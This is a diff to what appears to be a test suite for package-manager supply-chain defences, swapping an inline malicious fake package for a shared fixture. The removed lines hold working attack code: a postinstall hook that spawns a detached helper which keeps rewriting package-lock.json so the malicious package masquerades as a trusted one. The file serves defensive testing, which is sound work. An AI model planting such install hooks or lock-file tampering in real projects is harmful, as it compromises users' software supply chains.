@@ -9,6 +9,7 @@ import {
   type FakePackage,
   type FakeRegistry,
 } from "../attacks/pretended-registry.ts";
+import { evilPackage } from "../attacks/maker-packages.ts";
 import { ensureGuest } from "../host/built-guest.test-support.ts";
 import { MANAGERS } from "../package-managers/managers.ts";
 import type { Workspace, WorkspaceDriver } from "../types.ts";
@@ -41,32 +42,7 @@ const PACKAGES: FakePackage[] = [
     files: js("scripted"),
   },
   { name: "lefty", version: "1.0.0", files: js("honest") },
-  {
-    // Once it has been installed under another's name, it makes the lock file say that it is that other.
-    name: "evil",
-    version: "1.0.0",
-    fields: { scripts: { postinstall: "node start.js" } },
-    files: {
-      ...js("evil"),
-      "start.js": `
-const { execSync, spawn } = require("child_process");
-const { integrity, tarball } = JSON.parse(execSync("npm view lefty@1.0.0 dist --json"));
-spawn(process.execPath, [__dirname + "/helper.js", integrity, tarball], { detached: true, stdio: "ignore" }).unref();`,
-      "helper.js": `
-const fs = require("fs");
-const [, , integrity, resolved] = process.argv;
-for (;;)
-  try {
-    const lock = JSON.parse(fs.readFileSync("/home/project/package-lock.json", "utf8"));
-    const entry = lock.packages["node_modules/lefty"];
-    if (entry.integrity === integrity && !entry.name) continue;
-    lock.packages["node_modules/lefty"] = { version: "1.0.0", resolved, integrity };
-    lock.packages[""].dependencies = { lefty: "1.0.0" };
-    fs.writeFileSync("/home/project/package-lock.json.new", JSON.stringify(lock));
-    fs.renameSync("/home/project/package-lock.json.new", "/home/project/package-lock.json");
-  } catch {}`,
-    },
-  },
+  evilPackage,
   {
     name: "meddler",
     version: "1.0.0",
